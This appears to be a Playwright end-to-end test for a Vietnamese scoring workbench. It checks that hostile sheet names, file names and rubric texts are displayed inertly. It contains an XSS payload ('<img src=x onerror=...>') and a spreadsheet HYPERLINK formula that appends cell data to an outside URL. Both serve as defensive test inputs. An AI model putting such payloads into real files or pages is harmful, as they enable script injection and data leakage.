import type { Browser, Page } from "playwright-core";
import { findRubric } from "../../src/rubric/library";
import type { Criterion } from "../../src/rubric/rubric";
import { HOSTILE_TEXTS } from "../trust/hostileTexts";
import { board, workbook } from "../cli/runMain";
import { launchBrowser } from "./support/launchBrowser";
import { serveDist } from "./support/serveDist";
import type { Served } from "./support/serveDist";
import { watchTrust } from "./support/watchTrust";
import { openFile, openWorkbench } from "./support/workbenchPage";

const SHEET = "<img src=x onerror=hacked=1>";
const FILE = "<img src=x onerror=hacked=1>.xlsx";
const SHOWN = '=HYPERLINK("https://khac.vn/?d="&A1,"Bấm vào đây")';

jest.setTimeout(180_000);

let served: Served;
let browser: Browser;

beforeAll(async () => {
  served = await serveDist();
  browser = await launchBrowser();
});

afterAll(async () => {
  await browser.close();
  await served.close();
});

/** A rubric of the library in which all that can be any text is hostile. */
function hostileRubric(): unknown {
  const rubric = findRubric("cao-bang-2020-so");
  if (rubric === undefined) throw new Error("the library lacks the rubric");
  const renamed = (criterion: Criterion): unknown => ({
    ...criterion,
    name: SHEET,
    ...(criterion.children && { children: criterion.children.map(renamed) }),
  });
  return {
    ...rubric,
    id: "khac",
    title: { vi: SHEET, en: SHEET },
    province: SHEET,
    basis: [{ document: SHEET }],
    criteria: renamed(rubric.criteria),
  };
}

/** Neither the page nor the pane has run or made anything of what it shows. */
async function expectHarmless(page: Page): Promise<void> {
  for (const frame of page.frames()) {
    const found = await frame.evaluate(() => ({
      hacked: Reflect.get(globalThis, "hacked") as unknown,
      made: document.querySelectorAll('img[src="x"], [onerror], [onload], a[href^="javascript:"]').length,
    }));
    expect(found).toEqual({ hacked: undefined, made: 0 });
  }
}

test("names of units, of the sheet and of the file, and a rubric's texts, are shown as they are written, and do nothing", async () => {
  const page = await browser.newPage({ viewport: { width: 1400, height: 900 }, locale: "vi-VN" });
  const breaches = await watchTrust(page, served.origin);
  const pane = await openWorkbench(page, served.origin);
  const units = HOSTILE_TEXTS.map((text, index) => [index + 3, text, 8, 14, 18, 2, 5, 5]);
  const buffer = Buffer.from(workbook({ [SHEET]: [...board(), ...units] }));
  await openFile(page, FILE, buffer);
  await pane
    .getByRole("radio", { name: /Cao Bằng năm 2020/ })
    .first()
    .check();
  await pane.getByText(new RegExp(`^${String(2 + units.length)} đơn vị · 6 chỉ tiêu`)).waitFor();
  await pane.getByRole("tab", { name: "Kiểm tra" }).click();
  await pane.getByText(SHOWN).first().waitFor({ state: "attached" });
  await pane.getByRole("tab", { name: "Tính điểm" }).click();
  await pane.getByRole("button", { name: "Điền kết quả" }).click();
  await pane.getByText(/^Đã điền \d/).waitFor();
  await expectHarmless(page);

  await pane.getByRole("tab", { name: "Báo cáo" }).click();
  await pane.getByText(/^Bảng 1\. /).click();
  await pane.locator("main table").getByText(SHOWN).first().waitFor();
  await pane.getByText(/^Hình 1\. /).click();
  await pane.locator("main img").first().waitFor();
  await expectHarmless(page);

  await pane.getByRole("tab", { name: "Bộ tiêu chí" }).click();
  await pane.getByRole("button", { name: /^Cách khác/ }).click();
  const file = { name: FILE, mimeType: "application/json", buffer: Buffer.from(JSON.stringify(hostileRubric())) };
  await pane.locator('input[type="file"]').setInputFiles(file);
  await pane.getByRole("table", { name: `Xếp hạng theo ${SHEET}` }).waitFor();
  await pane.getByRole("button", { name: "Lưu vào tệp" }).click();
  await pane.getByText(`Đã lưu bộ tiêu chí “${SHEET}”`).waitFor();
  await expectHarmless(page);
  expect(breaches).toEqual({ requests: [], violations: [], errors: [] });
  await page.close();
});
